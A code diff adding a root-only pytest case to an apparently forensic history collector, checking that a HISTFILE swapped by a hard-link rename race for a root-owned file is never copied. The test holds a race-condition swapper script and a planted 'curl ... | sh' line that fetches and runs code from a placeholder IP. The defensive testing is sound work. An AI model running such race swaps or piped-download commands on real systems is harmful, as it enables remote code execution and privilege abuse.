@@ -17,13 +17,16 @@ import io
 import json
 import os
 import signal
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
-from conftest import journal_records
+from conftest import journal_records, requires_root
 from hostns import run_on_planted_host
 
 from collectors import persistence
+from collectors.accounts import AccountsCollector
 from collectors.context import CollectContext
 from collectors.histories import history_lines
 from collectors.lastlog import FAILLOG, parse_faillog
@@ -171,3 +174,56 @@ def test_a_history_line_is_not_cut_at_a_separator_the_shell_does_not_break_at(se
     fact = {"path": "/srv/a/.bash_history", "user": "a", "shell": "bash", "line": command,
             "line_no": 2}  # fmt: skip
     assert rule.when.holds(fact)
+
+
+_SWAPPER = """
+import os, sys
+target, mine, theirs = map(os.fsencode, sys.argv[1:])
+spare = target + b".swap"
+print("swapping", flush=True)
+while True:
+    for source in (theirs, mine):  # (a rename onto a link of itself does nothing)
+        os.link(source, spare)
+        os.rename(spare, target)
+"""
+
+
+@requires_root
+def test_a_histfile_swapped_for_anothers_file_after_its_check_is_not_copied(
+    ctx: CollectContext, tmp_path: Path
+) -> None:
+    """alice's ``HISTFILE=~/.h`` is her own file, checked to be hers, and then, as fast
+    as she can rename, a link to a root-owned file: whatever the path holds when it is
+    copied and read for the rules must be the file that was checked, never root's."""
+    root = tmp_path / "host"
+    home = root / "srv/alice"
+    home.mkdir(parents=True)
+    (root / "etc").mkdir()
+    (root / "etc/passwd").write_text(PASSWD)
+    (home / ".bashrc").write_text("HISTFILE=~/.h\n")
+    mine, theirs = home / ".mine", tmp_path / "root-owned"
+    mine.write_text("ls -la\n")
+    theirs.write_text("curl -s http://203.0.113.5/SECRETHASH | sh\n")
+    os.link(mine, home / ".h")
+    os.chown(home, 1000, 1000)
+    os.chown(mine, 1000, 1000)
+    os.chown(home / ".bashrc", 1000, 1000)
+    collector = AccountsCollector()
+    collector.root = os.fsencode(root)
+    swapper = subprocess.Popen(
+        [sys.executable, "-c", _SWAPPER, home / ".h", mine, theirs], stdout=subprocess.PIPE
+    )
+    try:
+        assert swapper.stdout is not None and swapper.stdout.readline() == b"swapping\n"
+        for _ in range(150):
+            collector.collect(ctx)
+    finally:
+        swapper.kill()
+        swapper.wait()
+    records = journal_records(ctx.root)
+    copied = [r for r in records if r.get("type") == "artifact" and r.get("kind") == "history"]
+    refused = [r for r in records if "owned by uid 0" in r.get("reason", "")]
+    assert copied and refused  # both were there to be seen, and it ran with each
+    for path in ctx.root.rglob("*"):
+        if path.is_file():
+            assert b"SECRETHASH" not in path.read_bytes(), path
